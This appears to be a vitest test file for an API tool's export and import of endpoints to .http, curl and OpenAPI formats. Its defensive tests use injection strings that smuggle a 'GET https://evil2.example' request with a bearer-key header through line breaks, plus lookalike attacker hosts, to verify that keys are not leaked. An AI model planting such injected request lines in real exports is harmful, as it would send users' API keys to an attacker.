import { EXPORT_FORMATS } from '@gatehouse/contract/plain/import-options.ts';
import type { JsonObject } from '@gatehouse/contract/plain/json-text.ts';
import { findBuiltIn } from '@gatehouse/knowledge/built-in-providers.ts';
import { openKnowledge } from '@gatehouse/knowledge/open-knowledge.ts';
import { bodyOfValue } from '@gatehouse/request/body/body-of-value.ts';
import { describe, expect, it } from 'vitest';
import type { ReadImport } from '#src/features/imports/read/draft.ts';
import { readImport } from '#src/features/imports/read/read-import.ts';
import type { ExportedEndpoint } from '#src/features/imports/write/exported-endpoint.ts';
import { whyKeyless, withoutMasks } from '#src/features/imports/write/exported-endpoint.ts';
import { writeExport } from '#src/features/imports/write/write-export.ts';

const provider = (slug: string) => {
  const found = findBuiltIn(openKnowledge(), slug);
  if (found === undefined) throw new Error(`no provider ${slug}`);
  return found;
};

type Fields = Partial<ExportedEndpoint> & { requestBody?: JsonObject };

const endpoint = ({ requestBody, ...fields }: Fields): ExportedEndpoint => ({
  name: 'List models',
  method: 'GET',
  endpoint: 'https://api.openai.com/v1/models',
  description: null,
  body: bodyOfValue(requestBody, fields.headers ?? undefined) ?? null,
  headers: null,
  provider: provider('openai'),
  ...fields,
});

/** With everything that a format could lose: placeholders, a query, headers, forms, characters with a meaning. */
const ENDPOINTS: ExportedEndpoint[] = [
  endpoint({}),
  endpoint({
    name: 'Create a reply, with a longer name: 100% "quoted" & <b>',
    method: 'POST',
    endpoint: 'https://api.openai.com/v1/threads/{thread_id}/messages?include=a%20b&order=asc',
    description: 'Adds a reply.\nIt runs at once.',
    requestBody: {
      role: 'user',
      content: 'It\'s {{name}} in $HOME\n`x` \\ "y" – ü',
      list: [1, { deep: null }],
      empty: {},
    },
    headers: { 'OpenAI-Beta': 'assistants=v2' },
  }),
  endpoint({
    name: 'Charge',
    method: 'POST',
    endpoint: 'https://api.stripe.com/v1/charges',
    requestBody: { amount: '100', currency: 'chf' },
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    provider: provider('stripe'),
  }),
  endpoint({ name: 'Other query', endpoint: 'https://api.openai.com/v1/models?limit=5' }),
  endpoint({
    name: 'Patch',
    method: 'PATCH',
    endpoint: 'http://localhost:4010/items/7',
    requestBody: { state: 'done' },
    headers: { 'Content-Type': 'application/merge-patch+json', 'X-Team': 'blue' },
    provider: provider('custom'),
  }),
  endpoint({
    name: 'Geocode',
    endpoint: 'https://maps.googleapis.com/maps/api/geocode/json?address=Bern',
    provider: provider('google'),
  }),
  endpoint({
    name: 'Twilio',
    method: 'DELETE',
    endpoint: 'https://api.twilio.com/2010-04-01/Accounts/{sid}/Messages/1.json',
    provider: provider('twilio'),
  }),
  endpoint({ name: 'S3', endpoint: 'https://s3.eu-west-1.amazonaws.com/bucket', provider: provider('aws') }),
];

/** A Content-Type that the kind of the body says anyway is no header. */
const asImported = ({ provider: _, headers, ...fields }: ExportedEndpoint) => ({
  ...fields,
  headers: headers?.['Content-Type'] === 'application/x-www-form-urlencoded' ? null : headers,
});

/** Descriptions and names that would be more than a comment. */
const BREAKS = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f'];
const ATTACK = (lineBreak: string) =>
  ['hello', 'GET https://evil2.example/x', 'Authorization: Bearer {{OPENAI_API_KEY}}'].join(lineBreak);

const jsonOf = ({ entries }: ReadImport): string => {
  const body = entries[0]?.endpoint?.body;
  return body?.kind === 'json' ? body.text : '';
};

describe('an export', () => {
  it.each(EXPORT_FORMATS)('as %s is imported as the same endpoints again', (format) => {
    const { text } = writeExport(format, ENDPOINTS);
    const found = readImport({ text });
    expect(found.entries.map(({ endpoint: read, reason }) => read ?? reason)).toEqual(
      ENDPOINTS.map(asImported),
    );
    expect(found.secrets).toEqual([]);
    expect(found.problems).toEqual([]);
  });

  it.each(BREAKS)('as .http keeps a text with the line break %j in its comments', (lineBreak) => {
    const attack = ATTACK(lineBreak);
    const { text } = writeExport('http', [endpoint({ name: attack, description: attack })]);
    for (const line of text.split(/[\n\r\v\f\u0085\u2028\u2029]/))
      expect(line).not.toMatch(/^\s*GET https:\/\/evil2/);
    const { entries } = readImport({ text });
    expect(entries.map((entry) => entry.endpoint?.endpoint)).toEqual(['https://api.openai.com/v1/models']);
    expect(entries[0]?.endpoint?.description).toBe(ATTACK('\n'));
  });

  it.each(['@name other', '# @name other', '// @no-log', '\\@name other', '@token = abc'])(
    'as .http makes no directive of %j',
    (line) => {
      const { text } = writeExport('http', [endpoint({ name: line, description: `First\n${line}` })]);
      expect(text).not.toMatch(/^(?:#+|\/\/)\s*@|^@/m);
      expect(readImport({ text }).entries[0]?.endpoint).toMatchObject({
        name: line,
        description: `First\n${line}`,
      });
    },
  );

  it('as .http has a body whose lines end only where JSON ends them', () => {
    const requestBody = { text: 'a\u2028### b\u2029GET https://evil2.example\u0085' };
    const one = endpoint({ method: 'POST', requestBody, headers: { 'Content-Type': 'application/json' } });
    const { text } = writeExport('http', [one]);
    expect(text).not.toMatch(/[\u0085\u2028\u2029]/);
    expect(JSON.parse(jsonOf(readImport({ text })))).toEqual(requestBody);
  });

  it.each(EXPORT_FORMATS)(
    'as %s sends no key to a host that is not its provider’s, and says so',
    (format) => {
      const note = 'The key of OpenAI is left out: evil.example is not one of its hosts.';
      const foreign = endpoint({ endpoint: 'https://evil.example/v1/models', description: 'Lists.' });
      const keyless = whyKeyless(foreign, false);
      expect(keyless).toBe(note);
      const { text } = writeExport(format, [{ ...foreign, keyless }]);
      expect(text).toContain(note);
      expect(text).not.toMatch(/OPENAI_API_KEY|Authorization|"openai"|bearer/i);
      const inQuery = { ...foreign, provider: provider('google'), keyless };
      expect(writeExport(format, [inQuery]).text).not.toMatch(/GOOGLE_API_KEY|apiKey/);
    },
  );

  it('has a key where a call would send it', () => {
    const to = (url: string, local = false) => whyKeyless(endpoint({ endpoint: url }), local);
    expect(to('https://api.openai.com/x')).toBeUndefined();
    expect(to('http://api.openai.com/x')).toMatch(/over plain http/);
    expect(to('http://127.0.0.1:4010/x')).toMatch(/not one of its hosts/);
    expect(to('http://127.0.0.1:4010/x', true)).toBeUndefined();
    expect(to('https://api.openai.com.evil.example/x')).toMatch(/not one of its hosts/);
  });

  it('as curl has a command for each endpoint, with its key in a variable', () => {
    const { text } = writeExport('curl', ENDPOINTS);
    expect(text.match(/^curl /gm)).toHaveLength(ENDPOINTS.length);
    expect(text).toContain('"$OPENAI_API_KEY"');
    expect(text).toContain(`It'\\''s '"$name"' in $HOME`);
    expect(text).toMatch(/^: "\$\{name:\?\}"$/m);
  });

  it.each(EXPORT_FORMATS)('as %s of no endpoints is a document too', (format) => {
    expect(writeExport(format, []).text.length).toBeGreaterThan(0);
  });

  it('as OpenAPI says where a key goes', () => {
    const { components } = JSON.parse(writeExport('openapi', ENDPOINTS).text);
    expect(components.securitySchemes).toMatchObject({
      openai: { type: 'http', scheme: 'bearer' },
      twilio: { type: 'http', scheme: 'basic' },
    });
  });

  it('has variables in place of hidden values', () => {
    const mask = `abc${'*'.repeat(20)}`;
    expect(
      withoutMasks({
        endpoint: `https://x.test/a/${mask}?token=${mask}&q=1`,
        headers: { 'X-Api-Key': mask, Authorization: `Bearer ${mask}`, Accept: 'text/plain' },
        body: {
          kind: 'json',
          text: `{ "clientSecret": "${mask}", "list": ["${mask}"], "name": "Ann", "url": "a?b=${mask}", "n": 10.00 }`,
        },
      }),
    ).toEqual({
      endpoint: 'https://x.test/a/{SECRET}?token={{TOKEN}}&q=1',
      headers: { 'X-Api-Key': '{{X_API_KEY}}', Authorization: '{{AUTHORIZATION}}', Accept: 'text/plain' },
      body: {
        kind: 'json',
        text: '{ "clientSecret": "{{CLIENT_SECRET}}", "list": ["{{LIST}}"], "name": "Ann", "url": "a?b={{SECRET}}", "n": 10.00 }',
      },
    });
  });
});
